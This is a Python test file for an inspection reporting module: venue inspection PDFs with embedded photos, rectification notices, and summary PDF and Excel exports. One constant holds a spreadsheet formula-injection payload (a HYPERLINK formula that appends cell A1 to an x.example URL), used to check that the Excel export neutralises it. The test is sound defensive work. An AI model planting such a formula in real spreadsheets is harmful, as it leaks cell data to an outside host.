"""The inspection outputs (issue 11) from plain data: the record PDF carries the venue, every
item with its result, failed and serious findings marked, the photos as images and the
conclusion; the rectification notice its number, findings, deadline and issuer; the period
summary its figures in the PDF and as numbers in the workbook, with formula injection
neutralised."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from PIL import Image, ImageDraw
from pypdf import PdfReader

from jd_admin.reports import pdf
from jd_admin.reports.inspection import (
    inspection_report_flowables,
    write_inspection_report_pdf,
    write_inspection_summary_pdf,
    write_inspection_summary_xlsx,
    write_rectification_notice_pdf,
)
from jd_admin.reports.inspection_data import (
    FailureCount,
    InspectionReportData,
    InspectionSummaryData,
    NoticeFinding,
    OrderReference,
    RectificationNoticeData,
    ReportItem,
    ReportPhoto,
    SubdistrictRow,
    measure_text,
    pass_fail_text,
    percent,
    score_text,
)

D = Decimal
SH = pdf.SHANGHAI
VENUE = "嘉定区南翔镇全民健身中心"
ADDRESS = "嘉定区南翔镇德华路 318 号"
NOTICE_NUMBER = "嘉体巡整〔2026〕第0007号"
DEADLINE = dt.date(2026, 12, 15)
BROKEN = "健身器材完好，无破损、无安全隐患"
HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"点击")'


def jpeg(width: int = 800, height: int = 600, color: str = "#C0392B", label: str = "") -> bytes:
    """A real small JPEG: a coloured field with shapes (and the label, in the default font)."""
    image = Image.new("RGB", (width, height), color)
    draw = ImageDraw.Draw(image)
    draw.rectangle((width // 10, height // 10, width // 2, height // 2), fill="#F4D03F",
                   outline="black", width=6)
    draw.ellipse((width // 2, height // 2, width - 40, height - 40), fill="#2E86C1")
    draw.line((0, height, width, 0), fill="white", width=8)
    if label:
        draw.text((30, height - 60), label, fill="white")
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def photo(caption: str, width: int = 800, height: int = 600, color: str = "#C0392B"
          ) -> ReportPhoto:
    return ReportPhoto(jpeg(width, height, color, caption[:10]), width, height, caption)


def item(area: str, text: str, result: str, passed: bool | None, note: str = "",
         serious: bool = False, photos: tuple[ReportPhoto, ...] = (), kind: str = "pass_fail"
         ) -> ReportItem:
    return ReportItem(area, text, kind, result, passed, note, serious, photos)


def sample_items(with_photos: bool = True) -> tuple[ReportItem, ...]:
    p = with_photos
    return (
        item("健身环境", "场地整洁，通风、采光良好", "合格", True),
        item("健身环境", BROKEN, "不合格", False, "跑步机 2 台皮带磨损开裂，仍在使用；"
             "哑铃区地胶破损翘起", serious=True,
             photos=(photo("2 号跑步机皮带开裂"), photo("哑铃区地胶翘起", 600, 800, "#7D3C98"))
             if p else ()),
        item("健身环境", "室内温度", measure_text(D("29.5"), "℃", D(18), D(26)), False,
             "空调故障未修复", kind="measure",
             photos=(photo("温度计读数 29.5 ℃", color="#1E8449"),) if p else ()),
        item("教练", "教练员持有效职业资格证书上岗", "合格", True, "抽查 3 名教练，均持证"),
        item("教练", "教练服务规范评分", score_text(7, 10), True, kind="score"),
        item("项目", "开展的项目与申报的定点项目一致", "合格", True),
        item("价格", "明码标价，消费券使用规则公示", "不合格", False,
             "前台未公示消费券使用规则", photos=(photo("前台价目表", color="#566573"),) if p
             else ()),
        item("服务", "服务态度与投诉处理", "场馆有投诉登记簿，近一月无投诉", None, kind="text"),
        item("防疫", "公共区域定期消毒并有记录", "合格", True),
        item("安全", "消防通道畅通，灭火器在有效期内", "合格", True),
    )


def sample_report(**changes: Any) -> InspectionReportData:
    data = InspectionReportData(
        inspection_id=42,
        number="XC-2026-0042",
        venue_name=VENUE,
        venue_address=ADDRESS,
        subdistrict="南翔镇",
        inspected_at=dt.datetime(2026, 11, 26, 14, 30, tzinfo=SH),
        inspectors=("周建国", "陈晓燕"),
        venue_present="李明（场馆经理）",
        announced=False,
        template_name="体育消费券定点场馆巡查表",
        template_version=2,
        items=sample_items(),
        score=D("82.5"),
        max_score=D(100),
        result_label="限期整改",
        rectify_by=DEADLINE,
        order=OrderReference(NOTICE_NUMBER, DEADLINE, "待整改"),
        remarks="场馆整体管理规范，但器材维护不及时，需限期整改后复查。",
        submitted_by="周建国",
        submitted_at=dt.datetime(2026, 11, 26, 8, 5, tzinfo=dt.UTC),
        printed_at=dt.datetime(2026, 11, 27, 1, 0, tzinfo=dt.UTC),
    )
    return dataclasses.replace(data, **changes)


def sample_notice(**changes: Any) -> RectificationNoticeData:
    data = RectificationNoticeData(
        number=NOTICE_NUMBER,
        venue_name=VENUE,
        venue_address=ADDRESS,
        venue_person="王强（法定代表人）",
        inspection_date=dt.date(2026, 11, 26),
        inspection_number="XC-2026-0042",
        findings=(
            NoticeFinding("健身环境", BROKEN, "跑步机 2 台皮带磨损开裂，仍在使用", True),
            NoticeFinding("健身环境", "室内温度", "实测 29.5 ℃，超出 18–26 ℃", False),
            NoticeFinding("价格", "明码标价，消费券使用规则公示", "前台未公示消费券使用规则",
                          False),
        ),
        deadline=DEADLINE,
        issued_on=dt.date(2026, 11, 27),
        obligations=(),
        status_label="待整改",
        bureau_contact="联系人：赵敏　联系电话：021-5999 0000",
        printed_at=dt.datetime(2026, 11, 27, 2, 0, tzinfo=dt.UTC),
    )
    return dataclasses.replace(data, **changes)


def sample_summary(**changes: Any) -> InspectionSummaryData:
    data = InspectionSummaryData(
        period_from=dt.date(2026, 10, 1),
        period_to=dt.date(2026, 12, 31),
        scope_label="全区",
        rows=(
            SubdistrictRow("南翔镇", 12, 9, 2, 1, 2, 1),
            SubdistrictRow("安亭镇", 8, 8, 0, 0, 0, 0),
            SubdistrictRow("嘉定镇街道", 7, 5, 2, 0, 1, 0),
            SubdistrictRow(HOSTILE, 0, 0, 0, 0, 0, 0),
        ),
        common_failures=(
            FailureCount(BROKEN, "健身环境", 5),
            FailureCount("明码标价，消费券使用规则公示", "价格", 3),
            FailureCount("公共区域定期消毒并有记录", "防疫", 1),
        ),
        printed_at=dt.datetime(2026, 12, 31, 16, 30, tzinfo=dt.UTC),  # 2027-01-01 00:30 local
    )
    return dataclasses.replace(data, **changes)


def render(write: Any, data: Any, **kw: Any) -> bytes:
    buffer = io.BytesIO()
    write(data, buffer, **kw)
    return buffer.getvalue()


def pages(data: bytes) -> list[str]:
    return ["".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages]


def squeeze(value: str) -> str:
    return "".join(value.split())


def text(data: bytes) -> str:
    return "".join(pages(data))


def images(data: bytes) -> list[tuple[int, int, str]]:
    """(width, height, filter) of every image XObject on every page."""
    found = []
    for page in PdfReader(io.BytesIO(data)).pages:
        xobjects = page["/Resources"].get("/XObject", {})
        for ref in xobjects.values():
            obj = ref.get_object()
            if obj.get("/Subtype") == "/Image":
                found.append((int(obj["/Width"]), int(obj["/Height"]), str(obj.get("/Filter"))))
    return found


# ------------------------------------------------------------------ inspection record


def test_record_carries_venue_items_results_and_conclusion() -> None:
    out = render(write_inspection_report_pdf, sample_report(), invariant=True)
    t = text(out)
    for expected in ("场馆监督巡查记录", "XC-2026-0042", VENUE, ADDRESS, "南翔镇",
                     "2026-11-2614:30", "周建国、陈晓燕", "李明（场馆经理）", "不预先通知（暗访）",
                     "体育消费券定点场馆巡查表（第2版）", BROKEN, "跑步机2台皮带磨损开裂",
                     "★严重问题", "29.5℃（应为18–26℃）", "7/10分", "场馆有投诉登记簿",
                     "限期整改", "82.5/100分", "不合格3项", "其中严重问题1项",
                     NOTICE_NUMBER, "2026年12月15日", "待整改",
                     "巡查人员签字", "场馆负责人签字", "提交：周建国2026-11-2616:05",
                     "打印时间：2026-11-2709:00"):
        assert squeeze(expected) in t, expected
    # a serious item that held is marked as a serious item, not as a serious problem
    report = sample_report()
    held = next(n for n, i in enumerate(report.items) if i.passed is True and not i.serious)
    items = list(report.items)
    items[held] = dataclasses.replace(items[held], serious=True)
    marked = text(render(write_inspection_report_pdf,
                         dataclasses.replace(report, items=tuple(items)), invariant=True))
    assert marked.count(squeeze("★ 严重问题")) == 1  # the one serious failure
    assert marked.count(squeeze("★ 严重项")) == 1  # the serious item that held
    # every area, numbered, in checklist order
    positions = [t.index(f"{n}、{area}") for n, area in
                 (("一", "健身环境"), ("二", "教练"), ("三", "项目"), ("四", "价格"),
                  ("五", "服务"), ("六", "防疫"), ("七", "安全"))]
    assert positions == sorted(positions)
    assert "草稿" not in t
    for n, page in enumerate(pages(out), start=1):
        assert f"第{n}页/共{len(pages(out))}页" in page


def test_record_embeds_every_photo_as_its_jpeg_with_figure_references() -> None:
    data = sample_report()
    out = render(write_inspection_report_pdf, data, invariant=True)
    found = images(out)
    assert sorted((w, h) for w, h, _f in found) == sorted(
        [(800, 600)] * 3 + [(600, 800)])
    assert all("/DCTDecode" in f for _w, _h, f in found)  # the JPEG as it is, not re-encoded
    t = text(out)
    assert "现场照片" in t
    for n, caption in enumerate(("2号跑步机皮带开裂", "哑铃区地胶翘起", "温度计读数29.5℃",
                                 "前台价目表"), start=1):
        assert f"图{n}{caption}" in t, caption
    assert "（照片见图1、图2）" in t and "（照片见图4）" in t
    # the section heading is not left alone at the foot of a page
    assert all("图12号跑步机皮带开裂" in page for page in pages(out) if "现场照片" in page)


def test_a_damaged_photo_is_a_note_not_a_failure() -> None:
    bad = ReportPhoto(b"not a jpeg", 800, 600, "损坏的照片")
    items = (item("安全", "应急照明完好", "不合格", False, photos=(bad,)),)
    out = render(write_inspection_report_pdf, sample_report(items=items))
    assert "（照片无法显示）" in text(out) and images(out) == []


def test_draft_record_is_marked_and_markup_is_literal() -> None:
    items = (item("服务", "<b>前台</b> & 接待", "合格", True, note="a<b & c"),)
    out = render(write_inspection_report_pdf,
                 sample_report(items=items, submitted_at=None, submitted_by="",
                               result_label="", order=None, rectify_by=None, score=None))
    t = text(out)
    assert "草稿" in t and "巡查记录尚未提交" in t and "（未作结论）" in t
    assert "<b>前台</b>&接待" in t and "a<b&c" in t


def test_many_photos_and_items_span_pages_with_area_header_repeated() -> None:
    many = tuple(photo(f"照片{i}", color="#AA5500") for i in range(9))
    items = tuple(item("健身环境", f"检查项目第{i}条：器材与场地状况", "不合格", False,
                       note="器材表面锈蚀，需要更换。" * 3) for i in range(40))
    items += (item("安全", "消防通道畅通", "合格", True, photos=many),)
    out = render(write_inspection_report_pdf, sample_report(items=items))
    ps = pages(out)
    assert len(ps) >= 4
    assert sum("一、健身环境" in p for p in ps) >= 2  # the area's first row repeats
    assert len(images(out)) == 9
    # invariant build is reproducible (photos included)
    assert render(write_inspection_report_pdf, sample_report(), invariant=True) == render(
        write_inspection_report_pdf, sample_report(), invariant=True)


def test_record_flowables_are_pure() -> None:
    data = sample_report()
    assert len(inspection_report_flowables(data)) == len(inspection_report_flowables(data))


# ------------------------------------------------------------------ rectification notice


def test_notice_carries_number_addressee_findings_deadline_and_issuer() -> None:
    out = render(write_rectification_notice_pdf, sample_notice(), invariant=True)
    t = text(out)
    for expected in (NOTICE_NUMBER, "整改通知书", f"{VENUE}：", ADDRESS, "XC-2026-0042",
                     "2026年11月26日", BROKEN, "【严重问题】〔健身环境〕",
                     "前台未公示消费券使用规则",
                     "2026年12月15日前", "书面报告整改情况", "组织复查",
                     "暂停你单位参与体育消费券项目的定点场馆资格", "特此通知。",
                     "联系人：赵敏", "（盖章）", "嘉定区体育局", "2026年11月27日", "送达回执",
                     "王强（法定代表人）", "签收人签字"):
        assert squeeze(expected) in t, expected
    assert NOTICE_NUMBER + "整改通知书" + VENUE in t  # the number at the top, over the title
    first, receipt = pages(out)  # the receipt on a page of its own
    assert "送达回执" not in first and "特此通知。" in first and "状态：待整改" in first
    assert "送达回执" in receipt and VENUE in receipt and "2026年12月15日前" in receipt
    assert "草稿" not in t


def test_notice_own_obligations_and_draft() -> None:
    out = render(write_rectification_notice_pdf,
                 sample_notice(issued_on=None,
                               obligations=("立即停用破损器材；", "另行通知复查时间。")))
    t = text(out)
    assert "草稿" in t and "尚未签发" in t
    assert "1.立即停用破损器材；" in t and "2.另行通知复查时间。" in t
    assert "书面报告整改情况" not in t
    assert "______年____月____日" in t


# ------------------------------------------------------------------ summary


def test_summary_pdf_figures() -> None:
    out = render(write_inspection_summary_pdf, sample_summary(), invariant=True)
    t = text(out)
    for expected in ("监督巡查情况汇总表", "2026年10月1日至2026年12月31日", "范围：全区",
                     "南翔镇12975.0%2121", "安亭镇88100.0%0000", "合计272281.5%4131", BROKEN,
                     "打印时间：2027-01-0100:30"):
        assert squeeze(expected) in t, expected
    assert HOSTILE.replace(" ", "") in t  # text in a PDF is only text


def test_summary_xlsx_numbers_and_formula_injection() -> None:
    buffer = io.BytesIO(render(write_inspection_summary_xlsx, sample_summary()))
    wb = load_workbook(buffer)
    assert wb.sheetnames == ["按街镇", "常见问题", "说明"]
    ws = wb["按街镇"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0] == ["街镇", "巡查次数", "合格", "合格率（%）", "限期整改", "不合格",
                       "未结整改通知", "其中逾期"]
    assert rows[1][0] == "南翔镇" and rows[1][1:] == [12, 9, 75, 2, 1, 2, 1]
    assert isinstance(rows[1][1], int) and D(str(rows[1][3])) == D("75.0")
    assert rows[4][0] == "'" + HOSTILE and ws.cell(5, 1).data_type == "s"
    assert rows[4][3] is None  # no inspections: no rate
    assert rows[-1] == ["合计", 27, 22, 81.5, 4, 1, 3, 1]
    failures = [[c.value for c in row] for row in wb["常见问题"].iter_rows()]
    assert failures[1] == [1, "健身环境", BROKEN, 5]
    about = {row[0].value: row[1].value for row in wb["说明"].iter_rows(min_row=2)}
    assert about["统计期间自"] == dt.datetime(2026, 10, 1)
    assert about["导出时间"] == dt.datetime(2027, 1, 1, 0, 30)


def test_empty_summary() -> None:
    data = sample_summary(rows=(), common_failures=())
    t = text(render(write_inspection_summary_pdf, data))
    assert "本期无巡查记录" in t and "合计00—0000" in t
    buffer = io.BytesIO(render(write_inspection_summary_xlsx, data))
    rows = list(load_workbook(buffer)["按街镇"].iter_rows(values_only=True))
    assert rows[1] == ("合计", 0, 0, None, 0, 0, 0, 0)


# ------------------------------------------------------------------ wording helpers


@pytest.mark.parametrize(("value", "expected"), [
    ((D("29.5"), "℃", D(18), D(26)), "29.5 ℃（应为 18–26 ℃）"),
    ((D("0.30"), "mg/L", D("0.5"), None), "0.3 mg/L（应不低于 0.5 mg/L）"),
    ((D(120), "dB", None, D(85)), "120 dB（应不高于 85 dB）"),
    ((D("3"), "", None, None), "3"),
])
def test_measure_text(value: tuple[Any, ...], expected: str) -> None:
    assert measure_text(*value) == expected


def test_small_helpers() -> None:
    assert score_text(D("7.50"), 10) == "7.5 / 10 分"
    assert pass_fail_text(True) == "合格" and pass_fail_text(None) == "不适用"
    assert percent(2, 3) == D("66.7") and percent(1, 0) is None
    assert SubdistrictRow("x", 8, 7, 1, 0, 0, 0).pass_rate == D("87.5")


@pytest.mark.parametrize(("write", "make"), [
    (write_inspection_report_pdf, sample_report),
    (write_rectification_notice_pdf, sample_notice),
    (write_inspection_summary_pdf, sample_summary),
])
def test_every_character_has_a_glyph(write: Any, make: Any) -> None:
    """No boxes: every character printed (★, 〔〕, 【】, ℃, –, …) is in the bundled font."""
    from reportlab.pdfbase import pdfmetrics

    face = pdfmetrics.getFont(pdf.register_fonts()).face
    missing = {c for c in text(render(write, make())) if ord(c) not in face.charToGlyph}
    assert not missing, missing
